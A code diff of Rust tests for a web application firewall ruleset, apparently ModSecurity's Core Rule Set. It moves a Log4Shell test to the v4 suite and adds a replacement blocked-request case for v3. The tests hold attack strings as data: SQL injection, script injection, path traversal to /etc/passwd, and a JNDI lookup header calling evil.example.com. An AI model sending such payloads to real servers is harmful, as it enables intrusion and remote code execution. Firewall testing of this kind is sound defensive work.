@@ -78,11 +78,6 @@ fn attacks(rs: &Arc<Ruleset>) {
     blocked(rs, "/item?id=1'%20OR%20'1'='1", vec![]);
     blocked(rs, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", vec![]);
     blocked(rs, "/download?file=../../../../etc/passwd", vec![]);
-    blocked(
-        rs,
-        "/",
-        vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")],
-    );
 }
 
 #[test]
@@ -91,6 +86,11 @@ fn crs_v4_benign_and_attacks() {
     benign_get(&rs);
     benign_post(&rs);
     attacks(&rs);
+    blocked(
+        &rs,
+        "/",
+        vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")],
+    );
 }
 
 #[test]
@@ -99,4 +99,9 @@ fn crs_v3_benign_and_attacks() {
     benign_get(&rs);
     benign_post(&rs);
     attacks(&rs);
+    // Debian's CRS 3.3.4 has no Log4Shell rule: libmodsecurity 3.0.9 with it lets
+    // a `${jndi:...}` header through as well. Instead, an Accept header with an
+    // empty parameter name: only PCRE's possessive `;\s*+` in 920600 rejects it
+    // (libmodsecurity blocks it with 920600 and 949110).
+    blocked(&rs, "/", vec![("Accept", "text/html; =x")]);
 }
